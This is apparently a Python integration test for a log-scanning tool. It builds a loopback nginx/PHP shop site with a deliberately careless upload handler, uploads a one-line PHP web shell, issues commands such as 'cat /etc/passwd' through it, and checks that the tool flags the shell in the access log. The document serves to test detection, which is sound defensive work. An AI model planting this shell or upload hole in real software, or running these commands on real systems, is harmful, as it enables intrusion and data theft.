"""Real nginx + php-fpm on loopback: normal browsing and web-shell traffic, then `sscguard logs`
on the real access log ranks the shell first and ties it to the file in the web root."""

from __future__ import annotations

import random
import time
import urllib.parse
from collections.abc import Callable

import pytest
from logs_servers import WebServer, nginx_php

from conftest import CliResult

pytestmark = pytest.mark.integration

Run = Callable[..., CliResult]

SITE = {
    "index.php": "<?php echo '<h1>Shop</h1>'; ?>\n",
    "news.php": "<?php $id = (int)($_GET['id'] ?? 0); echo 'news ' . $id; ?>\n",
    "about.html": "<p>about us</p>\n",
    "css/site.css": "body { color: #333 }\n",
    "img/logo.png": "PNG",
    # A deliberately careless upload handler: it stores whatever it is sent.
    "upload.php": (
        "<?php $n = basename($_GET['name'] ?? 'f.bin');\n"
        "file_put_contents(__DIR__ . '/uploads/' . $n, file_get_contents('php://input'));\n"
        "echo 'stored'; ?>\n"
    ),
}
SHELL = "<?php if (isset($_REQUEST['cmd'])) { echo shell_exec($_REQUEST['cmd']); } ?>\n"
BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1",
]


def _site(server: WebServer) -> None:
    for name, text in SITE.items():
        path = server.www / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _browse(server: WebServer, rounds: int, rng: random.Random) -> None:
    for _ in range(rounds):
        client = f"127.0.0.{rng.randint(10, 40)}"
        ua = rng.choice(BROWSERS)
        base = "http://shop.example/"
        for path, ref in (
            ("/", ""),
            ("/css/site.css", base),
            ("/img/logo.png", base),
            (f"/news.php?id={rng.randint(1, 5)}", base),
            ("/about.html", base),
        ):
            headers = {"User-Agent": ua}
            if ref:
                headers["Referer"] = ref
            status, _ = server.request("GET", path, client, headers)
            assert status == 200, path


__all__ = ["nginx_php"]  # the fixture, imported so pytest finds it


def test_real_nginx_log_ranks_the_shell_first_and_finds_its_file(
    nginx_php: WebServer,
    run: Run,
) -> None:
    server = nginx_php
    _site(server)
    rng = random.Random(7)
    _browse(server, 40, rng)
    time.sleep(1.1)  # the shell file must be newer than the log's first second
    attacker, tool = "127.0.0.66", {"User-Agent": "python-requests/2.31.0"}
    status, body = server.request(
        "POST", "/upload.php?name=thumb_9.php", attacker, tool, SHELL.encode()
    )
    assert status == 200 and body == b"stored"
    for cmd in ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www"):
        query = urllib.parse.urlencode({"cmd": cmd})
        status, out = server.request("GET", f"/uploads/thumb_9.php?{query}", attacker, tool)
        assert status == 200
        assert out, f"the test shell produced no output for {cmd}"
    status, _ = server.request(
        "POST",
        "/uploads/thumb_9.php",
        attacker,
        {**tool, "Content-Type": "application/x-www-form-urlencoded"},
        b"cmd=hostname",
    )
    assert status == 200
    _browse(server, 20, rng)

    result = run(
        "logs", str(server.access_log), "--webroot", str(server.www), "--format", "json", "-j", "1"
    )
    assert result.code == 1, result.err
    doc = result.json()
    ranked = [f for f in doc["findings"] if f["rule_id"] == "SSC-003-200"]
    ranked.sort(key=lambda f: int(next(t for t in f["tags"] if t.startswith("rank:"))[5:]))
    assert ranked, doc
    assert "/uploads/thumb_9.php" in ranked[0]["title"], [f["title"] for f in ranked]
    components = {e["excerpt"].split()[1] for e in ranked[0]["evidence"] if e["kind"] == "score"}
    assert {"few-clients", "command-params", "after-upload"} <= components
    cmd = [f for f in doc["findings"] if f["rule_id"] == "SSC-003-201"]
    assert any("thumb_9.php" in f["title"] for f in cmd)
    correlated = [f for f in doc["findings"] if f["rule_id"] == "SSC-003-210"]
    assert len(correlated) == 1, [f["title"] for f in doc["findings"]]
    assert correlated[0]["subject"]["path"].endswith("uploads/thumb_9.php")
    assert "flagged by SSC-003" in correlated[0]["title"]
    # Nothing else in the site is tied to a file: the benign pages were not newly written.
    assert doc["stats"]["access_unparsed_lines"] == 0
